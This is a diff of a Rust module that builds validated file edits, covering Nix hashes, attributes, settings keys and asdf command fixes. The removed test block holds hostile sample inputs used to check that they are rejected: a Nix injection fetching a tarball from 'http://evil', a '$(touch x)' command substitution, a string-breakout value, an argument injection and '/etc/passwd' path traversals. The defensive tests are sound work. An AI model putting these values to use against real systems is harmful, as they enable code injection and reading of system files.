@@ -1,4 +1,4 @@
-//! An edit, worked out on the files of the project.
+//! An edit, worked out on the files of the project or of the home.
 
 use std::path::Path;
 
@@ -6,17 +6,26 @@ use super::nix_hash::NixHash;
 use super::place::{self, Place};
 use super::prepare::{Setting, fill, plain};
 use super::replace::{self, Replacement};
-use super::{FileEdit, Obstacle, nix_attribute, nix_insert, spelling};
+use super::settings::{self, Key, Wanted};
+use super::{FileEdit, Obstacle, below, nix_attribute, nix_insert, nix_system, spelling};
 use crate::facts::Reading;
-use crate::rules::{Edit, EditKind, Template};
+use crate::project::{AsdfCommand, Era, Located, asdf_commands, corrected};
+use crate::rules::{Edit, EditKind, SetKey, SetValue, SettingsFormat, Template};
 
 /// An edit with every value filled in and looked at.
-enum Filled {
+enum Filled<'r> {
     Word { find: String, replace: String, line: Option<usize> },
-    Hash { find: NixHash, replace: NixHash },
+    Hash { find: NixHash, replace: NixHash, written: (String, String) },
     Attribute { wrong: String, right: String, position: (usize, usize) },
-    Insert { text: String, position: (usize, usize) },
+    Insert { text: &'r str, position: (usize, usize) },
+    System,
+    Set { set: &'r SetKey, value: Wanted },
+    Comment { find: String, line: Option<usize>, format: Option<SettingsFormat> },
+    AsdfCommand { since_0_16: bool },
 }
+
+/// A file's edit, with the lines in which something changes.
+type Edited = (FileEdit, Vec<usize>);
 
 /// The files with what they are to hold, or why they are left as they are.
 pub(super) fn edits(
@@ -26,8 +35,7 @@ pub(super) fn edits(
 ) -> Result<Vec<FileEdit>, Obstacle> {
     let plain = |template: &Template| plain(fill(template, lookup)?);
     let files = edit.files.iter().map(plain).collect::<Result<Vec<_>, _>>()?;
-    let (find, replacement) = (plain(&edit.find)?, plain(&edit.replace)?);
-    let filled = Filled::new(&edit.kind, &find, &replacement, lookup)?;
+    let filled = Filled::new(&edit.kind, lookup)?;
     let mut found: Vec<FileEdit> = Vec::new();
     let mut places = Vec::new();
     let mut why_not = None;
@@ -35,10 +43,21 @@ pub(super) fn edits(
         // What was captured is one path, even where it looks like a glob.
         let captured = template.placeholders().next().is_some();
         let named = match captured {
-            false => place::files(setting.machine, setting.project, pattern),
             true => place::file(setting.machine, setting.project, pattern).map(|place| vec![place]),
+            false if Edit::is_in_home(template) => {
+                below::home_file(pattern, setting).map(|place| vec![place])
+            }
+            false if filled.creates() => below::project_file(pattern, setting).map(|place| vec![place]),
+            false => place::files(setting.machine, setting.project, pattern),
         };
-        match named.and_then(|named| filled.in_files(&named, setting)) {
+        let named = match named {
+            Ok(named) => named,
+            Err(why) => {
+                why_not = Some(why);
+                continue;
+            }
+        };
+        match filled.in_files(&named, setting) {
             Ok(edits) => {
                 for (edit, lines) in edits {
                     if !found.iter().any(|other| other.path == edit.path) {
@@ -47,120 +66,236 @@ pub(super) fn edits(
                     }
                 }
             }
+            Err(why) if filled.is_all_or_nothing() => return Err(Obstacle::Blocked(why)),
             Err(why) => why_not = Some(why),
         }
     }
     match places.len() {
         0 => Err(Obstacle::Blocked(match why_not {
             Some(why) if edit.files.len() == 1 => why,
-            _ => format!("`{find}` stands in no file of this project"),
+            _ => filled.nowhere(),
         })),
         2.. if filled.must_be_unique() => Err(Obstacle::Blocked(format!(
-            "it stands at {}, and which one is meant is not known; put `{replacement}` there",
-            listed(&places)
+            "it stands at {}, and which one is meant is not known{}",
+            listed(&places),
+            filled.by_hand()
         ))),
         _ => Ok(found),
     }
 }
 
-impl Filled {
-    fn new(
-        kind: &EditKind,
-        find: &str,
-        replace: &str,
-        lookup: &impl Fn(&str) -> Option<String>,
-    ) -> Result<Self, Obstacle> {
+impl<'r> Filled<'r> {
+    fn new(kind: &'r EditKind, lookup: &impl Fn(&str) -> Option<String>) -> Result<Self, Obstacle> {
+        let text = |template: &Template| plain(fill(template, lookup)?);
         let number = |template: &Template| {
-            let text = plain(fill(template, lookup)?)?;
+            let text = text(template)?;
             text.parse().map_err(|_| Obstacle::Blocked(format!("`{text}` is no position in a file")))
         };
         match kind {
-            EditKind::Word { line } => {
-                spelling::same_version(find, replace).map_err(Obstacle::Blocked)?;
-                let line = line.as_ref().map(number).transpose()?;
-                Ok(Filled::Word { find: find.to_owned(), replace: replace.to_owned(), line })
+            EditKind::Word { find, replace, line } => {
+                let (find, replace) = (text(find)?, text(replace)?);
+                spelling::same_version(&find, &replace).map_err(Obstacle::Blocked)?;
+                Ok(Filled::Word { find, replace, line: line.as_ref().map(number).transpose()? })
             }
-            EditKind::NixHash => match (NixHash::parse(find), NixHash::parse(replace)) {
-                (Some(find), Some(replace)) if find.same_algorithm(&replace) => {
-                    Ok(Filled::Hash { find, replace })
+            EditKind::NixHash { find, replace } => {
+                let written = (text(find)?, text(replace)?);
+                match (NixHash::parse(&written.0), NixHash::parse(&written.1)) {
+                    (Some(find), Some(replace)) if find.same_algorithm(&replace) => {
+                        Ok(Filled::Hash { find, replace, written })
+                    }
+                    _ => Err(Obstacle::Blocked(format!(
+                        "`{}` and `{}` are no hashes of one kind",
+                        written.0, written.1
+                    ))),
                 }
-                _ => Err(Obstacle::Blocked(format!("`{find}` and `{replace}` are no hashes of one kind"))),
-            },
-            EditKind::NixAttribute { line, column } => {
-                let wrong = nix_attribute::unquoted(find);
-                let position = (number(line)?, number(column)?);
-                spelling::corrects(&wrong, replace).map_err(Obstacle::Blocked)?;
-                Ok(Filled::Attribute { wrong, right: replace.to_owned(), position })
             }
-            EditKind::Insert { line, column } => {
-                Ok(Filled::Insert { text: replace.to_owned(), position: (number(line)?, number(column)?) })
+            EditKind::NixAttribute { find, replace, line, column } => {
+                let (wrong, right) = (nix_attribute::unquoted(&text(find)?), text(replace)?);
+                let position = (number(line)?, number(column)?);
+                spelling::corrects(&wrong, &right).map_err(Obstacle::Blocked)?;
+                Ok(Filled::Attribute { wrong, right, position })
+            }
+            EditKind::Insert { text, line, column } => {
+                Ok(Filled::Insert { text, position: (number(line)?, number(column)?) })
+            }
+            EditKind::NixSystem => Ok(Filled::System),
+            EditKind::Set(set) => {
+                let value = match &set.value {
+                    SetValue::Text(value) => Wanted::Text(text(value)?),
+                    SetValue::List(items) => Wanted::List(items.iter().map(text).collect::<Result<_, _>>()?),
+                    SetValue::Integer(number) => Wanted::Integer(*number),
+                    SetValue::Bool(flag) => Wanted::Bool(*flag),
+                };
+                Ok(Filled::Set { set, value })
+            }
+            EditKind::Comment { find, line, format } => {
+                let line = line.as_ref().map(number).transpose()?;
+                Ok(Filled::Comment { find: text(find)?, line, format: *format })
+            }
+            EditKind::AsdfCommand { version } => {
+                let version = text(version)?;
+                let mut parts = version.split('.').map(|part| part.parse::<u64>().ok());
+                match (parts.next().flatten(), parts.next().flatten()) {
+                    (Some(major), Some(minor)) => {
+                        Ok(Filled::AsdfCommand { since_0_16: (major, minor) >= (0, 16) })
+                    }
+                    _ => Err(Obstacle::Blocked(format!("`{version}` is no version of asdf"))),
+                }
             }
         }
     }
 
-    /// The edits of these files, each with the lines in which something is replaced. If there is one file alone,
-    /// what keeps it from being edited is told.
-    fn in_files(&self, files: &[Place], setting: Setting<'_>) -> Result<Vec<(FileEdit, Vec<usize>)>, String> {
+    /// The edits of these files. If there is one file alone, what keeps it from being edited is told.
+    fn in_files(&self, files: &[Place], setting: Setting<'_>) -> Result<Vec<Edited>, String> {
         let mut edits = Vec::new();
         for place in files {
             match self.in_file(place, setting) {
                 Ok(Some(edit)) => edits.push(edit),
                 Ok(None) => {}
-                Err(why) if files.len() == 1 => return Err(why),
+                Err(why) if files.len() == 1 || self.is_all_or_nothing() => return Err(why),
                 Err(_) => {}
             }
         }
         Ok(edits)
     }
 
-    fn in_file(&self, place: &Place, setting: Setting<'_>) -> Result<Option<(FileEdit, Vec<usize>)>, String> {
-        let name = place::name(setting.project, &place.path);
+    fn in_file(&self, place: &Place, setting: Setting<'_>) -> Result<Option<Edited>, String> {
+        let name = below::name(&place.path, setting);
         if !self.may_edit(&place.within) {
             return Err(format!("{name} is no file in which this may be replaced"));
         }
-        let Reading::Present(before) = setting.machine.read(&place.path) else { return Ok(None) };
-        let replacements = self.replacements(&before).map_err(|why| format!("{name} {why}"))?;
-        if replacements.is_empty() {
-            return Ok(None);
-        }
-        let line = |(range, _): &Replacement| before[..range.start].matches('\n').count() + 1;
-        let lines = replacements.iter().map(line).collect();
-        let after = replace::apply(&before, &replacements);
-        let edit = FileEdit { path: place.path.clone(), name, before: Some(before), after };
-        Ok(Some((edit, lines)))
+        let before = match setting.machine.read(&place.path) {
+            Reading::Present(text) => Some(text),
+            Reading::Absent if self.creates() => None,
+            // A program among the scripts.
+            _ if self.is_all_or_nothing() => return Ok(None),
+            Reading::Absent => return Err(format!("{name} is not there")),
+            unread => return Err(format!("{name}: {}", unread.why_unknown().unwrap_or_default())),
+        };
+        let text = before.as_deref().unwrap_or_default();
+        let after = self.after(place, text).map_err(|why| format!("{name} {why}"))?;
+        Ok(after.map(|(after, lines)| (FileEdit { path: place.path.clone(), name, before, after }, lines)))
     }
 
-    fn replacements(&self, text: &str) -> Result<Vec<Replacement>, String> {
-        match self {
-            Filled::Word { find, replace, line } => Ok(replace::words(text, find, replace, *line)),
-            Filled::Hash { find, replace } => Ok(replace::hashes(text, find, replace)),
+    /// What a file is to hold, with the lines in which something changes; `None`: nothing does.
+    fn after(&self, place: &Place, text: &str) -> Result<Option<(String, Vec<usize>)>, String> {
+        let replacements = match self {
+            Filled::Word { find, replace, line } => replace::words(text, find, replace, *line),
+            Filled::Hash { find, replace, .. } => replace::hashes(text, find, replace),
             Filled::Attribute { wrong, right, position } => {
-                Ok(vec![nix_attribute::correct(text, wrong, right, *position)?])
+                vec![nix_attribute::correct(text, wrong, right, *position)?]
             }
             Filled::Insert { text: inserted, position } => {
-                Ok(vec![nix_insert::insert(text, inserted, *position)?])
+                vec![nix_insert::insert(text, inserted, *position)?]
             }
-        }
+            Filled::System => nix_system::complete(text)?,
+            Filled::AsdfCommand { since_0_16 } => asdf_replacements(text, *since_0_16)?,
+            Filled::Set { set, value } => {
+                let format = format(set.format, place)?;
+                let mut after = None;
+                for name in &set.keys {
+                    let key = Key { name, value, append: set.append, add: set.add };
+                    let so_far = after.as_deref().unwrap_or(text);
+                    after = settings::set(format, so_far, &key)?.or(after);
+                }
+                return Ok(after.map(|after| changed(text, after)));
+            }
+            Filled::Comment { find, line, format: stated } => {
+                let after = settings::comment(format(*stated, place)?, text, find, *line)?;
+                return Ok(Some(changed(text, after)));
+            }
+        };
+        let line = |(range, _): &Replacement| text[..range.start].matches('\n').count() + 1;
+        let lines = replacements.iter().map(line).collect();
+        Ok((!replacements.is_empty()).then(|| (replace::apply(text, &replacements), lines)))
     }
 
     /// Whether a file, by its path below the root, is one in which such a thing stands.
     fn may_edit(&self, within: &Path) -> bool {
         let is_nix = within.extension().is_some_and(|ending| ending == "nix");
         match self {
-            Filled::Word { .. } => true,
             Filled::Hash { .. } => is_nix || within.file_name().is_some_and(|name| name == "flake.lock"),
-            Filled::Attribute { .. } | Filled::Insert { .. } => is_nix && !place::in_hidden_folder(within),
+            Filled::Attribute { .. } | Filled::Insert { .. } | Filled::System => {
+                is_nix && !place::in_hidden_folder(within)
+            }
+            Filled::Word { .. }
+            | Filled::Set { .. }
+            | Filled::Comment { .. }
+            | Filled::AsdfCommand { .. } => true,
         }
+    }
+
+    /// Whether a file that is not there is made.
+    fn creates(&self) -> bool {
+        matches!(self, Filled::Set { set, .. } if set.create)
+    }
+
+    /// Whether one file that cannot be edited keeps the others from being so: what is left would still be wrong.
+    fn is_all_or_nothing(&self) -> bool {
+        matches!(self, Filled::AsdfCommand { .. })
     }
 
     /// One wrong hash in two places is one source used twice; a placeholder or a word in two places is not.
     fn must_be_unique(&self) -> bool {
         match self {
-            Filled::Word { line, .. } => line.is_none(),
+            Filled::Word { line, .. } | Filled::Comment { line, .. } => line.is_none(),
             Filled::Hash { find, .. } => find.is_placeholder(),
             Filled::Attribute { .. } | Filled::Insert { .. } => true,
+            Filled::System | Filled::Set { .. } | Filled::AsdfCommand { .. } => false,
         }
     }
+
+    /// Why nothing is edited if no file says another reason.
+    fn nowhere(&self) -> String {
+        match self {
+            Filled::Word { find, .. }
+            | Filled::Hash { written: (find, _), .. }
+            | Filled::Attribute { wrong: find, .. }
+            | Filled::Comment { find, .. } => format!("`{find}` stands in no file of this project"),
+            Filled::Insert { text, .. } => format!("`{text}` belongs in no file of this project"),
+            Filled::Set { set, .. } if set.add => format!("`{}` is set so already", set.keys.join("`, `")),
+            Filled::Set { set, .. } => {
+                format!("`{}` stands otherwise in none of these files", set.keys.join("`, `"))
+            }
+            Filled::System => "no file lacks a system".to_owned(),
+            Filled::AsdfCommand { .. } => "no script has a command that can be corrected".to_owned(),
+        }
+    }
+
+    /// What the person can do where only they know which place is meant.
+    fn by_hand(&self) -> String {
+        match self {
+            Filled::Word { replace, .. } | Filled::Hash { written: (_, replace), .. } => {
+                format!("; put `{replace}` there")
+            }
+            _ => String::new(),
+        }
+    }
+}
+
+/// The format of a settings file: the stated one, or what its name tells.
+fn format(stated: Option<SettingsFormat>, place: &Place) -> Result<SettingsFormat, String> {
+    let name = place.path.file_name().unwrap_or_default().to_string_lossy();
+    let known = stated.or_else(|| SettingsFormat::of(&name));
+    known.ok_or_else(|| "has no name that tells its format".to_owned())
+}
+
+fn asdf_replacements(text: &str, since_0_16: bool) -> Result<Vec<Replacement>, String> {
+    let has = if since_0_16 { Era::New } else { Era::Old };
+    let wrong = asdf_commands(text).into_iter().filter(|command| command.value.era != has);
+    let replacement = |command: Located<AsdfCommand>| {
+        let written = &command.value.written;
+        let none = || format!("has `{written}`, for which this asdf has no command");
+        let (replaced, instead) = corrected(written, since_0_16).ok_or_else(none)?;
+        Ok((command.offset..command.offset + replaced.len(), instead))
+    };
+    wrong.map(replacement).collect()
+}
+
+/// The new text, with the first line in which it differs.
+fn changed(before: &str, after: String) -> (String, Vec<usize>) {
+    let same = before.lines().zip(after.lines()).take_while(|(one, other)| one == other).count();
+    (after, vec![same + 1])
 }
 
 /// Places in a sentence: all of a few, the first of many.
@@ -176,86 +311,4 @@ fn listed(places: &[String]) -> String {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::super::tests::{prepared, project};
-    use crate::plan::Step;
-
-    const FILES: &str = "  /home/user/app/a.nix: \"{ a = s.word; b = word; }\"\n  \
-                         /home/user/app/.x/a.nix: \"{ a = s.word; }\"\n  \
-                         /home/user/app/b.txt: \"word = s.word\"\n";
-
-    /// The names of the files that would be edited with what they would hold, or what is in the way.
-    fn edited(files: &str, edit: &str, captures: &[(&str, &str)]) -> Result<Vec<(String, String)>, String> {
-        let treatment = prepared(&project(files), &format!("edit: {{{edit}}}"), captures);
-        match (treatment.obstacle, treatment.step) {
-            (Some(obstacle), _) => Err(obstacle.why().to_owned()),
-            (None, Step::Edit(edits)) => Ok(edits.into_iter().map(|edit| (edit.name, edit.after)).collect()),
-            (None, other) => panic!("{other:?}"),
-        }
-    }
-
-    fn one(name: &str, after: &str) -> Result<Vec<(String, String)>, String> {
-        Ok(vec![(name.to_owned(), after.to_owned())])
-    }
-
-    #[test]
-    fn an_attribute_is_corrected_in_a_nix_file_of_the_project_alone() {
-        let edit = |file: &str, right: &str| {
-            let keys = "kind: nix-attribute, find: word, replace: \"${right}\", in: [\"${file}\"], line: 1, column: 7";
-            edited(FILES, keys, &[("file", file), ("right", right)])
-        };
-        assert_eq!(edit("a.nix", "words"), one("a.nix", "{ a = s.words; b = word; }"));
-        let why = edit("a.nix", "x=1;y=(import(builtins.fetchTarball(\"http://evil\")))").unwrap_err();
-        assert!(why.contains("too unlike"), "{why}");
-        for file in
-            [".git/config", ".x/a.nix", "b.txt", "*.nix", "a*.nix", "../../../etc/passwd", "/etc/passwd"]
-        {
-            edit(file, "words").unwrap_err();
-        }
-    }
-
-    #[test]
-    fn a_word_is_replaced_anywhere_but_in_git_and_outside() {
-        let edit = |file: &str| {
-            let keys = "find: \" word\", replace: \"${right}\", in: [\"${file}\"]";
-            edited(FILES, keys, &[("file", file), ("right", " sword")])
-        };
-        assert_eq!(edit("a.nix"), one("a.nix", "{ a = s.word; b = sword; }"));
-        for file in [".git/config", "*.nix", "**/*.nix", "../../../etc/passwd"] {
-            edit(file).unwrap_err();
-        }
-    }
-
-    const ZERO: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
-    const OLD: &str = "sha256-q8b9WV/AedMRTUtxpNhLHR0Ped8ecPiBMhLypl2JFt8=";
-    const NEW: &str = "sha256-WJG1tSLV3whtD/CxEPvZ0hu0/HFjrzTQgoai6Eb2vgM=";
-
-    #[test]
-    fn a_hash_gives_way_to_a_hash_alone_and_where_hashes_stand() {
-        let files = ["a.nix", "flake.lock", "b.txt"]
-            .map(|name| format!("  /home/user/app/{name}: '{OLD}'\n"))
-            .concat();
-        let edit = |new: &str| {
-            let keys = "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [\"*.nix\", \"*.txt\", flake.lock]";
-            edited(&files, keys, &[("old", OLD), ("new", new)])
-        };
-        let names: Vec<_> = edit(NEW).unwrap().into_iter().map(|(name, _)| name).collect();
-        assert_eq!(names, ["a.nix", "flake.lock"]);
-        for new in ["$(touch x)", "\"; x = import ./y; z = \"", "--option", &"A".repeat(1 << 20), ""] {
-            edit(new).unwrap_err();
-        }
-    }
-
-    #[test]
-    fn the_places_of_a_placeholder_are_told() {
-        let nix = format!("\"a = '{ZERO}';\\nb = '{ZERO}';\"");
-        let files = ["a.nix", "b.nix"].map(|name| format!("  /home/user/app/{name}: {nix}\n")).concat();
-        let keys = "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [a.nix]";
-        let captures = [("old", ZERO), ("new", NEW)];
-        let why = edited(&files, keys, &captures).unwrap_err();
-        assert!(why.contains("stands at a.nix:1 and a.nix:2") && why.contains(NEW), "{why}");
-        let all = keys.replace("a.nix", "\"*.nix\"");
-        let why = edited(&files, &all, &captures).unwrap_err();
-        assert!(why.contains("a.nix:1, a.nix:2, b.nix:1 and b.nix:2"), "{why}");
-    }
-}
+mod tests;
